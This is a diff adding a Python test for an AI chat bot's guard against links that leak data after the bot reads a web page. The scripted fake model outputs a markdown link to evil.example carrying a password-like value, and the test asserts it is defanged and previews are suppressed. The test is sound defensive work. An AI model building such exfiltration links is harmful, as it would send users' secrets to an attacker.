@@ -5,7 +5,7 @@ from bot.domain.tool import Status, ToolCall
 from tests.fakes.model import call, calls, says
 from tests.fakes.web import FakePageReader, FakePages, FakeSearch
 from tests.scenarios.stage import stage
-from tests.scenarios.tools import writing
+from tests.scenarios.tools import sending, writing
 from tests.words import RULE_PAUSED
 
 
@@ -103,3 +103,28 @@ async def test_after_a_page_no_rule_counts() -> None:
         assert "the web page https://news.example/" in scene.cards[0].text
         await scene.press("Deny")
         await scene.settled(2)
+
+
+async def test_words_on_the_way_and_messages_of_tools_hide_no_built_address_either() -> None:
+    built = "[Press here](https://evil.example/x?d=hunter2)"
+    url = "https://news.example/"
+    script = (
+        calls(fetch("a", url)),
+        calls(fetch("b", url), call("s", "send", {"what": built}), text=built),
+        calls(call("w", "write", {"what": "x"}), text=built),
+        says("Done."),
+    )
+    web = WebFetch(FakePages(), FakePageReader("words"))
+    async with stage(*script, tools=[web, sending(), writing()]) as scene:
+        await scene.say("/previews on")
+        await scene.say(f"read {url}")
+        await scene.parked()
+        drafts = [text for _, text in scene.channel.sent_drafts]
+        shown = "Press here: https://evil.example/x?d=hunter2"
+        assert any(shown in text for text in drafts)
+        assert sum(shown in text for text in scene.texts) >= 2
+        assert not any("](https://evil" in text for text in (*scene.texts, *drafts))
+        rows = scene.store.rows.outbox.values()
+        assert not any(r.content.previews for r in rows if "evil" in str(r.content.blocks))
+        await scene.press("Deny")
+        await scene.settled()
